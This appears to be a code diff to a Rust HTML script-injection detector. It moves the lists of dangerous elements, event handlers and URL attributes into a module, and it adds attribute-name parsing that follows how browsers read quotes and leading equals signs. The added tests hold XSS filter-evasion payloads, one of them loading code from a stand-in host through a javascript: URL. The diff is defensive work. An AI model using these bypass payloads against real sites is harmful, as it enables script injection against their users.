@@ -4,215 +4,16 @@
 //! not: dangerous elements, event handlers, script URLs, style expressions. Our own reading of the HTML standard,
 //! section 13.2.5.
 
+mod names;
+
 use std::ops::Range;
 
 use crate::transform::ByteMask;
+use names::{ELEMENTS, ELEMENTS_WITH, EVENTS, URL_ATTRIBUTES};
 
 pub(crate) fn trigger() -> ByteMask {
     ByteMask::from_bytes(b"<=:")
 }
-
-/// Elements that run script, load it, or change where a page's addresses lead, by their mere presence.
-const ELEMENTS: [&str; 22] = [
-    "script",
-    "iframe",
-    "object",
-    "embed",
-    "applet",
-    "frame",
-    "frameset",
-    "svg",
-    "math",
-    "isindex",
-    "bgsound",
-    "xml",
-    "portal",
-    "foreignobject",
-    "handler",
-    "listener",
-    "noscript",
-    "layer",
-    "ilayer",
-    "plaintext",
-    "xss",
-    "comment",
-];
-
-/// Elements that do so with certain attributes only; the words are those of prose in angle brackets.
-const ELEMENTS_WITH: [(&str, &[&str]); 13] = [
-    ("base", &["href"]),
-    ("link", &["href"]),
-    ("meta", &["http-equiv", "content"]),
-    ("form", &["action", "onsubmit"]),
-    ("set", &["attributename", "to"]),
-    ("animate", &["attributename", "values", "to", "from"]),
-    ("animatetransform", &["attributename"]),
-    ("input", &["formaction"]),
-    ("button", &["formaction"]),
-    ("use", &["href", "xlink:href"]),
-    ("template", &["shadowrootmode"]),
-    ("style", &["media", "type", "nonce", "title", "id", "class", "lang"]),
-    ("image", &["href", "xlink:href"]),
-];
-
-/// Event handlers that are looked for outside a tag, where `on...=` could be prose.
-const EVENTS: [&str; 138] = [
-    "onabort",
-    "onactivate",
-    "onafterprint",
-    "onafterscriptexecute",
-    "onanimationcancel",
-    "onanimationend",
-    "onanimationiteration",
-    "onanimationstart",
-    "onauxclick",
-    "onbeforecopy",
-    "onbeforecut",
-    "onbeforeinput",
-    "onbeforematch",
-    "onbeforeprint",
-    "onbeforescriptexecute",
-    "onbeforetoggle",
-    "onbeforeunload",
-    "onbegin",
-    "onblur",
-    "onbounce",
-    "oncanplay",
-    "oncanplaythrough",
-    "onchange",
-    "onclick",
-    "onclose",
-    "oncommand",
-    "oncontentvisibilityautostatechange",
-    "oncontextlost",
-    "oncontextmenu",
-    "oncontextrestored",
-    "oncopy",
-    "oncuechange",
-    "oncut",
-    "ondblclick",
-    "ondrag",
-    "ondragend",
-    "ondragenter",
-    "ondragleave",
-    "ondragover",
-    "ondragstart",
-    "ondrop",
-    "ondurationchange",
-    "onemptied",
-    "onend",
-    "onended",
-    "onerror",
-    "onfinish",
-    "onfocus",
-    "onfocusin",
-    "onfocusout",
-    "onformdata",
-    "onfullscreenchange",
-    "ongotpointercapture",
-    "onhashchange",
-    "oninput",
-    "oninvalid",
-    "onkeydown",
-    "onkeypress",
-    "onkeyup",
-    "onlanguagechange",
-    "onload",
-    "onloadeddata",
-    "onloadedmetadata",
-    "onloadend",
-    "onloadstart",
-    "onlostpointercapture",
-    "onmessage",
-    "onmessageerror",
-    "onmousedown",
-    "onmouseenter",
-    "onmouseleave",
-    "onmousemove",
-    "onmouseout",
-    "onmouseover",
-    "onmouseup",
-    "onmousewheel",
-    "onoffline",
-    "ononline",
-    "onpagehide",
-    "onpagereveal",
-    "onpageshow",
-    "onpageswap",
-    "onpaste",
-    "onpause",
-    "onplay",
-    "onplaying",
-    "onpointercancel",
-    "onpointerdown",
-    "onpointerenter",
-    "onpointerleave",
-    "onpointermove",
-    "onpointerout",
-    "onpointerover",
-    "onpointerrawupdate",
-    "onpointerup",
-    "onpopstate",
-    "onprogress",
-    "onratechange",
-    "onrejectionhandled",
-    "onrepeat",
-    "onreset",
-    "onresize",
-    "onscroll",
-    "onscrollend",
-    "onscrollsnapchange",
-    "onscrollsnapchanging",
-    "onsearch",
-    "onsecuritypolicyviolation",
-    "onseeked",
-    "onseeking",
-    "onselect",
-    "onselectionchange",
-    "onselectstart",
-    "onshow",
-    "onslotchange",
-    "onstalled",
-    "onstorage",
-    "onsubmit",
-    "onsuspend",
-    "ontimeupdate",
-    "ontoggle",
-    "ontouchcancel",
-    "ontouchend",
-    "ontouchmove",
-    "ontouchstart",
-    "ontransitioncancel",
-    "ontransitionend",
-    "ontransitionrun",
-    "ontransitionstart",
-    "onunhandledrejection",
-    "onunload",
-    "onvolumechange",
-    "onwaiting",
-    "onwebkitanimationend",
-    "onwebkitanimationiteration",
-    "onwebkitanimationstart",
-    "onwebkittransitionend",
-    "onwheel",
-];
-
-const URL_ATTRIBUTES: [&str; 14] = [
-    "href",
-    "src",
-    "action",
-    "formaction",
-    "xlink:href",
-    "data",
-    "poster",
-    "background",
-    "dynsrc",
-    "lowsrc",
-    "to",
-    "values",
-    "from",
-    "code",
-];
 
 /// Where script stands in the value, if anywhere.
 pub(crate) fn detect(value: &[u8]) -> Option<Range<usize>> {
@@ -236,6 +37,19 @@ fn tags(value: &[u8]) -> Option<Range<usize>> {
         at = memchr::memchr(b'<', inside).map_or(reader.at.max(start + 1), |again| start + 1 + again);
     }
     None
+}
+
+/// How the names of attributes are read.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Names {
+    OfBrowsers,
+    OfFilters,
+}
+
+impl Names {
+    fn passes_over(self, byte: u8) -> bool {
+        self == Names::OfFilters && matches!(byte, b'"' | b'\'')
+    }
 }
 
 struct Tag<'v> {
@@ -263,16 +77,25 @@ impl<'v> Tag<'v> {
         if style && self.peek() == Some(b'>') {
             return true;
         }
-        self.attributes_run_script(wanted.map_or(&[], |(_, attributes)| attributes))
+        let wanted = wanted.map_or([].as_slice(), |(_, attributes)| attributes);
+        // As a browser reads it, and as filters do that take quotes and signs in a name for its end.
+        let begin = self.at;
+        if self.attributes_run_script(wanted, Names::OfBrowsers) {
+            return true;
+        }
+        let end = std::mem::replace(&mut self.at, begin);
+        let found = self.attributes_run_script(wanted, Names::OfFilters);
+        self.at = self.at.max(end);
+        found
     }
 
-    fn attributes_run_script(&mut self, wanted: &[&str]) -> bool {
+    fn attributes_run_script(&mut self, wanted: &[&str], names: Names) -> bool {
         loop {
-            self.take_while(|byte| is_space(byte) || byte == b'/' || byte == b'"' || byte == b'\'');
+            self.take_while(|byte| is_space(byte) || byte == b'/' || names.passes_over(byte));
             if matches!(self.peek(), None | Some(b'>')) {
                 return false;
             }
-            let name = self.take_while(|byte| !is_space(byte) && !matches!(byte, b'=' | b'>' | b'/' | b'<'));
+            let name = self.attribute_name(names);
             if name.is_empty() {
                 self.at += 1;
                 continue;
@@ -287,6 +110,17 @@ impl<'v> Tag<'v> {
                 return true;
             }
         }
+    }
+
+    /// Quotes and `<` belong to a name, and so does an equals sign that it begins with (section 13.2.5.32 and 13.2.5.33).
+    fn attribute_name(&mut self, names: Names) -> &'v [u8] {
+        let start = self.at;
+        if names == Names::OfBrowsers && self.peek() == Some(b'=') {
+            self.at += 1;
+        }
+        let ends = |byte| is_space(byte) || matches!(byte, b'=' | b'>' | b'/');
+        self.take_while(|byte| !ends(byte) && (names == Names::OfBrowsers || byte != b'<'));
+        self.value.get(start..self.at).unwrap_or_default()
     }
 
     fn attribute_value(&mut self) -> &'v [u8] {
@@ -508,6 +342,26 @@ fn is_space(byte: u8) -> bool {
 #[cfg(test)]
 mod tests {
     use super::detect;
+
+    /// Quotes and a leading `=` are parts of a name (HTML 13.2.5.32 and 33): a `>` behind them in quotes ends no tag.
+    #[test]
+    fn no_quote_in_a_name_hides_an_attribute() {
+        for text in [
+            "<a \"\"='>' href=javascript:import('//e.x/a')>Our size guide</a>",
+            "<dialog open \"\"='>' oncancel=PWN='N'>",
+            "<a =\"='>' href=javascript:x>y</a>",
+            "<a '='>' onclick=x()>y</a>",
+            "<b x\"'='>' onclick=x()>y</b>",
+            "<b \"\" onclick=x() \">\">y</b>",
+        ] {
+            assert!(detect(text.as_bytes()).is_some(), "{text}");
+        }
+        for text in
+            ["<a href=\"https://a.example/\" title='a > b'>x</a>", "<b \"quoted\">x</b>", "a < b = c > d"]
+        {
+            assert_eq!(detect(text.as_bytes()), None, "{text}");
+        }
+    }
 
     #[test]
     fn sees_script() {
